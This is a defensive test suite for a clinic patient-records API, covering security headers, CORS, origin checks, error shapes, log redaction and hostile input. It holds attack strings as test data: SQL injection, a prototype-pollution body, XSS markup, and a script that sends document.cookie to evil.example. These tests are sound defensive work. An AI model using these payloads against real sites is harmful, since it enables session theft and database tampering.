import crypto from 'node:crypto';
import { sql } from 'kysely';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  assignCare,
  auditEvents,
  bearer,
  createFastClinic,
  createPatient,
  errorCode,
  ORIGIN,
  patientBody,
  startTestApp,
  type TestApp,
} from '../support/harness.js';

const BODY_LIMIT = 2048;

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp({ MEDICONNECT_BODY_LIMIT_BYTES: String(BODY_LIMIT) });
});
afterAll(async () => {
  await t.close();
});

const FOREIGN_ORIGIN = 'https://evil.example';

interface ErrorBody {
  error: {
    code: string;
    message: string;
    requestId: string;
    fields?: { path: string; message: string }[];
  };
}
interface PatientOut {
  id: string;
  familyName: string;
  address: string | null;
}

async function clinicWithClerk() {
  const clinic = await createFastClinic(t);
  const clerk = await clinic.staff('clerk');
  return { clinic, clerk };
}

function expectSecurityHeaders(response: LightMyRequestResponse): void {
  const csp = String(response.headers['content-security-policy']);
  expect(csp).toContain("default-src 'self'");
  expect(csp).toContain("script-src 'self'");
  expect(csp).toContain("frame-ancestors 'none'");
  expect(csp).toContain("object-src 'none'");
  expect(csp).not.toContain('unsafe-inline');
  expect(csp).not.toContain('unsafe-eval');
  expect(String(response.headers['strict-transport-security'])).toMatch(
    /max-age=(3153[6-9]\d{3}|[4-9]\d{7}|\d{9,})/,
  );
  expect(response.headers['x-content-type-options']).toBe('nosniff');
  expect(response.headers['referrer-policy']).toBe('no-referrer');
  expect(response.headers['x-frame-options']).toBe('DENY');
  expect(csp).toContain("connect-src 'self'");
  expect(csp).not.toMatch(/connect-src[^;]*(\*|ws:|wss:)/);
  const permissions = String(response.headers['permissions-policy']).split(', ');
  expect(permissions).toEqual(
    expect.arrayContaining([
      'camera=(self)',
      'microphone=(self)',
      'geolocation=()',
      'display-capture=()',
      'payment=()',
      'usb=()',
    ]),
  );
  // Nothing but the app's own pages may ever be granted a feature.
  expect(permissions.every((p) => /^[a-z-]+=\((self)?\)$/.test(p))).toBe(true);
}

describe('security headers', () => {
  it('are sent on /healthz', async () => {
    const response = await t.app.inject({ method: 'GET', url: '/healthz' });

    expect(response.statusCode).toBe(200);
    expectSecurityHeaders(response);
  });

  it('are sent on an API answer with patient data', async () => {
    const { clerk } = await clinicWithClerk();
    const patient = await createPatient(t, clerk);

    const response = await t.app.inject({
      method: 'GET',
      url: `/api/v1/patients/${patient.id}`,
      headers: bearer(clerk),
    });

    expect(response.statusCode).toBe(200);
    expectSecurityHeaders(response);
  });

  it('are sent on errors too', async () => {
    const unauthenticated = await t.app.inject({ method: 'GET', url: '/api/v1/patients' });
    const unknownRoute = await t.app.inject({ method: 'GET', url: '/api/v1/no-such-thing' });

    expectSecurityHeaders(unauthenticated);
    expectSecurityHeaders(unknownRoute);
  });
});

describe('caching', () => {
  it('forbids caching of a patient, a patient list and an update', async () => {
    const { clerk } = await clinicWithClerk();
    const patient = await createPatient(t, clerk);

    const read = await t.app.inject({
      method: 'GET',
      url: `/api/v1/patients/${patient.id}`,
      headers: bearer(clerk),
    });
    const list = await t.app.inject({
      method: 'GET',
      url: '/api/v1/patients',
      headers: bearer(clerk),
    });
    const update = await t.app.inject({
      method: 'PUT',
      url: `/api/v1/patients/${patient.id}`,
      headers: { ...bearer(clerk), 'if-match': '"1"' },
      payload: patientBody(),
    });

    expect([read, list, update].map((r) => r.statusCode)).toEqual([200, 200, 200]);
    expect([read, list, update].map((r) => r.headers['cache-control'])).toEqual([
      'no-store',
      'no-store',
      'no-store',
    ]);
  });
});

describe('CORS', () => {
  it('names an allowlisted origin, with credentials, on a simple request', async () => {
    const response = await t.app.inject({
      method: 'GET',
      url: '/healthz',
      headers: { origin: ORIGIN },
    });

    expect(response.headers['access-control-allow-origin']).toBe(ORIGIN);
    expect(response.headers['access-control-allow-credentials']).toBe('true');
    expect(String(response.headers.vary)).toMatch(/origin/i);
  });

  it('answers an allowlisted preflight with that origin and the methods it may use', async () => {
    const response = await t.app.inject({
      method: 'OPTIONS',
      url: '/api/v1/patients',
      headers: {
        origin: ORIGIN,
        'access-control-request-method': 'POST',
        'access-control-request-headers': 'authorization, content-type',
      },
    });

    expect(response.statusCode).toBeLessThan(300);
    expect(response.headers['access-control-allow-origin']).toBe(ORIGIN);
    expect(response.headers['access-control-allow-credentials']).toBe('true');
    expect(String(response.headers['access-control-allow-methods'])).toContain('POST');
  });

  it('gives a foreign origin no CORS headers on a preflight', async () => {
    const response = await t.app.inject({
      method: 'OPTIONS',
      url: '/api/v1/patients',
      headers: { origin: FOREIGN_ORIGIN, 'access-control-request-method': 'POST' },
    });

    expect(response.headers['access-control-allow-origin']).toBeUndefined();
    expect(response.headers['access-control-allow-credentials']).toBeUndefined();
  });

  it('gives a foreign origin no CORS headers on a simple request', async () => {
    const { clerk } = await clinicWithClerk();

    const response = await t.app.inject({
      method: 'GET',
      url: '/api/v1/patients',
      headers: { ...bearer(clerk), origin: FOREIGN_ORIGIN },
    });

    expect(response.headers['access-control-allow-origin']).toBeUndefined();
    expect(response.headers['access-control-allow-credentials']).toBeUndefined();
  });

  it('never answers with a wildcard, whatever the origin', async () => {
    const origins = [
      ORIGIN,
      FOREIGN_ORIGIN,
      'null',
      `${ORIGIN}.evil.example`,
      'http://localhost:8081',
    ];

    const responses = await Promise.all(
      origins.map((origin) =>
        t.app.inject({
          method: 'OPTIONS',
          url: '/api/v1/auth/login',
          headers: { origin, 'access-control-request-method': 'POST' },
        }),
      ),
    );

    expect(responses.map((r) => r.headers['access-control-allow-origin'])).toEqual([
      ORIGIN,
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
  });
});

describe('origin check on state-changing requests', () => {
  it('refuses a POST from a foreign origin before anything is created', async () => {
    const { clinic, clerk } = await clinicWithClerk();

    const response = await t.app.inject({
      method: 'POST',
      url: '/api/v1/patients',
      headers: { ...bearer(clerk), origin: FOREIGN_ORIGIN },
      payload: patientBody(),
    });

    expect(response.statusCode).toBe(403);
    expect(errorCode(response)).toBe('origin_not_allowed');
    const list = await t.app.inject({
      method: 'GET',
      url: '/api/v1/patients',
      headers: bearer(clerk),
    });
    expect(list.json<{ items: unknown[] }>().items).toEqual([]);
    expect(
      (await auditEvents(t, clinic.tenant)).filter((e) => e.action === 'patient.create'),
    ).toEqual([]);
  });

  it('refuses a PUT from the opaque origin "null" and keeps the record as it was', async () => {
    const { clerk } = await clinicWithClerk();
    const patient = await createPatient(t, clerk);

    const response = await t.app.inject({
      method: 'PUT',
      url: `/api/v1/patients/${patient.id}`,
      headers: { ...bearer(clerk), origin: 'null', 'if-match': '"1"' },
      payload: patientBody({ familyName: '改竄' }),
    });

    expect(response.statusCode).toBe(403);
    const read = await t.app.inject({
      method: 'GET',
      url: `/api/v1/patients/${patient.id}`,
      headers: bearer(clerk),
    });
    expect(read.json<PatientOut>().familyName).toBe(patientBody().familyName);
  });

  it('refuses a login from a foreign origin', async () => {
    const response = await t.app.inject({
      method: 'POST',
      url: '/api/v1/auth/login',
      headers: { origin: FOREIGN_ORIGIN },
      payload: { tenant: 'x', email: 'a@b.c', password: 'whatever-password' },
    });

    expect(response.statusCode).toBe(403);
    expect(errorCode(response)).toBe('origin_not_allowed');
  });

  it('lets the same POST through from the allowlisted origin', async () => {
    const { clerk } = await clinicWithClerk();

    const response = await t.app.inject({
      method: 'POST',
      url: '/api/v1/patients',
      headers: { ...bearer(clerk), origin: ORIGIN },
      payload: patientBody(),
    });

    expect(response.statusCode).toBe(201);
  });
});

describe('request bodies', () => {
  it('answers a body over the limit with 413', async () => {
    const { clinic, clerk } = await clinicWithClerk();

    const response = await t.app.inject({
      method: 'POST',
      url: '/api/v1/patients',
      headers: bearer(clerk),
      payload: patientBody({ address: 'あ'.repeat(BODY_LIMIT) }),
    });

    expect(response.statusCode).toBe(413);
    expect(errorCode(response)).toBe('payload_too_large');
    expect(
      (await auditEvents(t, clinic.tenant)).filter((e) => e.action === 'patient.create'),
    ).toEqual([]);
  });

  it('answers text/plain with 415', async () => {
    const { clerk } = await clinicWithClerk();

    const response = await t.app.inject({
      method: 'POST',
      url: '/api/v1/patients',
      headers: { ...bearer(clerk), 'content-type': 'text/plain' },
      payload: JSON.stringify(patientBody()),
    });

    expect(response.statusCode).toBe(415);
    expect(errorCode(response)).toBe('unsupported_media_type');
  });

  it('answers a form post with 415', async () => {
    const { clerk } = await clinicWithClerk();

    const response = await t.app.inject({
      method: 'POST',
      url: '/api/v1/patients',
      headers: { ...bearer(clerk), 'content-type': 'application/x-www-form-urlencoded' },
      payload: 'familyName=x',
    });

    expect(response.statusCode).toBe(415);
    expect(errorCode(response)).toBe('unsupported_media_type');
  });

  it('answers malformed JSON with 400 invalid_json', async () => {
    const { clerk } = await clinicWithClerk();

    const response = await t.app.inject({
      method: 'POST',
      url: '/api/v1/patients',
      headers: { ...bearer(clerk), 'content-type': 'application/json' },
      payload: '{"familyName": "試験",',
    });

    expect(response.statusCode).toBe(400);
    expect(errorCode(response)).toBe('invalid_json');
  });

  it('answers a prototype-pollution body as a validation error, not as a property', async () => {
    const { clerk } = await clinicWithClerk();
    const body = JSON.stringify(patientBody()).replace(/^\{/, '{"__proto__":{"isAdmin":true},');

    const response = await t.app.inject({
      method: 'POST',
      url: '/api/v1/patients',
      headers: { ...bearer(clerk), 'content-type': 'application/json' },
      payload: body,
    });

    expect(response.statusCode).toBe(400);
    expect(({} as { isAdmin?: boolean }).isAdmin).toBeUndefined();
  });
});

describe('error bodies', () => {
  it('have one shape, with a fresh request id, whatever went wrong', async () => {
    const { clerk } = await clinicWithClerk();

    const responses = await Promise.all([
      t.app.inject({ method: 'GET', url: '/api/v1/patients' }),
      t.app.inject({ method: 'GET', url: '/api/v1/no-such-route', headers: bearer(clerk) }),
      t.app.inject({
        method: 'GET',
        url: `/api/v1/patients/${crypto.randomUUID()}`,
        headers: bearer(clerk),
      }),
      t.app.inject({ method: 'GET', url: '/api/v1/patients/not-a-uuid', headers: bearer(clerk) }),
      t.app.inject({
        method: 'POST',
        url: '/api/v1/patients',
        headers: { ...bearer(clerk), origin: FOREIGN_ORIGIN },
        payload: {},
      }),
      t.app.inject({
        method: 'GET',
        url: `/api/v1/patients/${crypto.randomUUID()}/encounters`,
        headers: bearer(clerk),
      }),
    ]);

    expect(responses.map((r) => r.statusCode)).toEqual([401, 404, 404, 400, 403, 403]);
    const ids = new Set<string>();
    for (const response of responses) {
      expect(response.headers['content-type']).toMatch(/^application\/json/);
      const body = response.json<ErrorBody>();
      expect(Object.keys(body)).toEqual(['error']);
      expect(
        Object.keys(body.error)
          .filter((k) => k !== 'fields')
          .sort(),
      ).toEqual(['code', 'message', 'requestId']);
      expect(body.error.code).toMatch(/^[a-z]+(_[a-z]+)*$/);
      expect(body.error.requestId).toMatch(/^[0-9a-f-]{36}$/);
      ids.add(body.error.requestId);
    }
    expect(ids.size).toBe(responses.length);
  });

  it('of a validation error name each failing field by its path', async () => {
    const { clerk } = await clinicWithClerk();

    const response = await t.app.inject({
      method: 'POST',
      url: '/api/v1/patients',
      headers: bearer(clerk),
      payload: patientBody({ sex: 'robot', birthDate: 'yesterday' }),
    });

    expect(response.statusCode).toBe(400);
    const paths = new Set(response.json<ErrorBody>().error.fields?.map((f) => f.path));
    expect([...paths].sort()).toEqual(['/birthDate', '/sex']);
  });

  it('of a server failure leak neither SQL, table names nor a stack, to the client or the log', async () => {
    const { clinic, clerk } = await clinicWithClerk();
    const patient = await createPatient(t, clerk);
    // Simulates a database failure in this test's own clinic: the audit table is gone.
    await sql.raw(`drop table "${clinic.tenant.schemaName}".audit_events`).execute(t.db.control);
    const logsBefore = t.logs.length;

    const response = await t.app.inject({
      method: 'GET',
      url: `/api/v1/patients/${patient.id}`,
      headers: bearer(clerk),
    });

    expect(response.statusCode).toBe(500);
    const body = response.json<ErrorBody>();
    expect(Object.keys(body.error).sort()).toEqual(['code', 'message', 'requestId']);
    expect(body.error.code).toBe('internal_error');
    const newLogs = t.logs.slice(logsBefore).join('');
    for (const text of [response.body, newLogs]) {
      expect(text).not.toMatch(/audit_events|relation|does not exist|select |insert into/i);
      expect(text).not.toContain(clinic.tenant.schemaName);
    }
    expect(response.body).not.toMatch(/\bat .*\.(ts|js):\d+/);
    expect(newLogs).toContain(body.error.requestId);
  });
});

describe('hostile input is data', () => {
  it('answers a non-uuid id with 400 and never reaches the database', async () => {
    const { clerk } = await clinicWithClerk();

    const response = await t.app.inject({
      method: 'GET',
      url: `/api/v1/patients/${encodeURIComponent("1' OR '1'='1")}`,
      headers: bearer(clerk),
    });

    expect(response.statusCode).toBe(400);
    expect(response.json<ErrorBody>().error.fields?.map((f) => f.path)).toEqual(['/params/id']);
  });

  it('treats SQL in the kana search as text: no error, no match, nothing dropped', async () => {
    const { clerk } = await clinicWithClerk();
    const patient = await createPatient(t, clerk);

    const response = await t.app.inject({
      method: 'GET',
      url: `/api/v1/patients?kana=${encodeURIComponent("ヤ' OR 1=1; DROP TABLE patients; --")}`,
      headers: bearer(clerk),
    });
    const after = await t.app.inject({
      method: 'GET',
      url: `/api/v1/patients/${patient.id}`,
      headers: bearer(clerk),
    });

    expect(response.statusCode).toBe(200);
    expect(response.json<{ items: unknown[] }>().items).toEqual([]);
    expect(after.statusCode).toBe(200);
  });

  it('treats LIKE wildcards in the kana search as literal characters', async () => {
    const { clerk } = await clinicWithClerk();
    await createPatient(t, clerk);

    const percent = await t.app.inject({
      method: 'GET',
      url: '/api/v1/patients?kana=%25',
      headers: bearer(clerk),
    });
    const underscore = await t.app.inject({
      method: 'GET',
      url: '/api/v1/patients?kana=___',
      headers: bearer(clerk),
    });

    expect(percent.json<{ items: unknown[] }>().items).toEqual([]);
    expect(underscore.json<{ items: unknown[] }>().items).toEqual([]);
  });

  it('answers a forged list cursor with 400, not a database error', async () => {
    const { clerk } = await clinicWithClerk();
    const forged = Buffer.from(JSON.stringify(['シケン タロウ', "x' OR '1'='1"])).toString(
      'base64url',
    );

    const response = await t.app.inject({
      method: 'GET',
      url: `/api/v1/patients?cursor=${forged}`,
      headers: bearer(clerk),
    });

    expect(response.statusCode).toBe(400);
    expect(errorCode(response)).toBe('validation_failed');
  });

  it('answers a forged encounter cursor with 400, not a database error', async () => {
    const { clinic, clerk } = await clinicWithClerk();
    const doctor = await clinic.staff('doctor');
    const patient = await createPatient(t, clerk);
    await assignCare(t, clerk, patient.id, doctor.id);
    const forged = Buffer.from(JSON.stringify(['not a time', crypto.randomUUID()])).toString(
      'base64url',
    );

    const response = await t.app.inject({
      method: 'GET',
      url: `/api/v1/patients/${patient.id}/encounters?cursor=${forged}`,
      headers: bearer(doctor),
    });

    expect(response.statusCode).toBe(400);
    expect(errorCode(response)).toBe('validation_failed');
  });

  it('answers a NUL character in the search with 400, not a database error', async () => {
    const { clerk } = await clinicWithClerk();

    const response = await t.app.inject({
      method: 'GET',
      url: '/api/v1/patients?kana=%E3%83%A4%00',
      headers: bearer(clerk),
    });

    expect(response.statusCode).toBe(400);
    expect(response.json<ErrorBody>().error.fields?.map((f) => f.path)).toEqual([
      '/querystring/kana',
    ]);
  });

  it('answers a NUL character in a name with 400 naming the field, and stores nothing', async () => {
    const { clinic, clerk } = await clinicWithClerk();

    const response = await t.app.inject({
      method: 'POST',
      url: '/api/v1/patients',
      headers: bearer(clerk),
      payload: patientBody({ familyName: '試\u0000験' }),
    });

    expect(response.statusCode).toBe(400);
    expect(response.json<ErrorBody>().error.fields?.map((f) => f.path)).toEqual(['/familyName']);
    expect(
      (await auditEvents(t, clinic.tenant)).filter((e) => e.action === 'patient.create'),
    ).toEqual([]);
  });

  it('stores free text with markup verbatim and returns it as JSON text', async () => {
    const { clerk } = await clinicWithClerk();
    const markup = '<script>alert("x")</script><img src=x onerror=alert(1)>';

    const created = await t.app.inject({
      method: 'POST',
      url: '/api/v1/patients',
      headers: bearer(clerk),
      payload: patientBody({ address: markup }),
    });
    const read = await t.app.inject({
      method: 'GET',
      url: `/api/v1/patients/${created.json<PatientOut>().id}`,
      headers: bearer(clerk),
    });

    expect(read.headers['content-type']).toMatch(/^application\/json/);
    expect(read.json<PatientOut>().address).toBe(markup);
  });

  it('stores a SOAP note with markup verbatim', async () => {
    const { clinic, clerk } = await clinicWithClerk();
    const doctor = await clinic.staff('doctor');
    const patient = await createPatient(t, clerk);
    await assignCare(t, clerk, patient.id, doctor.id);
    const markup = '</textarea><script>fetch("//evil.example/"+document.cookie)</script>';

    const created = await t.app.inject({
      method: 'POST',
      url: `/api/v1/patients/${patient.id}/encounters`,
      headers: bearer(doctor),
      payload: {
        type: 'in_person',
        startedAt: '2025-01-01T00:00:00Z',
        note: { subjective: markup, objective: '', assessment: '', plan: '' },
        diagnoses: [],
      },
    });
    const read = await t.app.inject({
      method: 'GET',
      url: `/api/v1/encounters/${created.json<{ id: string }>().id}`,
      headers: bearer(doctor),
    });

    expect(read.json<{ note: { subjective: string } }>().note.subjective).toBe(markup);
  });
});

describe('logs', () => {
  it('carry neither names, search terms, tokens nor clinical text', async () => {
    const { clinic, clerk } = await clinicWithClerk();
    const doctor = await clinic.staff('doctor');
    const logsBefore = t.logs.length;
    const patient = await createPatient(t, clerk, {
      familyName: '記録漏洩',
      familyNameKana: 'キロクロウエイ',
    });
    await assignCare(t, clerk, patient.id, doctor.id);

    await t.app.inject({
      method: 'GET',
      url: `/api/v1/patients?kana=${encodeURIComponent('キロクロウ')}`,
      headers: bearer(clerk),
    });
    await t.app.inject({
      method: 'POST',
      url: `/api/v1/patients/${patient.id}/encounters`,
      headers: bearer(doctor),
      payload: {
        type: 'in_person',
        startedAt: '2025-01-01T00:00:00Z',
        note: { subjective: '極秘の主訴', objective: '', assessment: '', plan: '' },
        diagnoses: [],
      },
    });

    const written = t.logs.slice(logsBefore).join('');
    expect(written).toContain('request completed');
    for (const secret of [
      '記録漏洩',
      'キロクロウ',
      '極秘の主訴',
      clerk.token,
      doctor.token,
      '01130012',
      'kana=',
    ]) {
      expect(written).not.toContain(secret);
    }
  });

  it('carry the request id once on each completion line', async () => {
    const { clerk } = await clinicWithClerk();
    const logsBefore = t.logs.length;

    await t.app.inject({ method: 'GET', url: '/api/v1/patients', headers: bearer(clerk) });

    const line = t.logs
      .slice(logsBefore)
      .join('')
      .split('\n')
      .find((text) => text.includes('"request completed"'));
    expect(line?.match(/"requestId":/g)).toHaveLength(1);
    expect(JSON.parse(line ?? '{}')).toMatchObject({
      requestId: expect.stringMatching(/^[0-9a-f-]{36}$/) as string,
      route: '/api/v1/patients',
      status: 200,
    });
  });
});
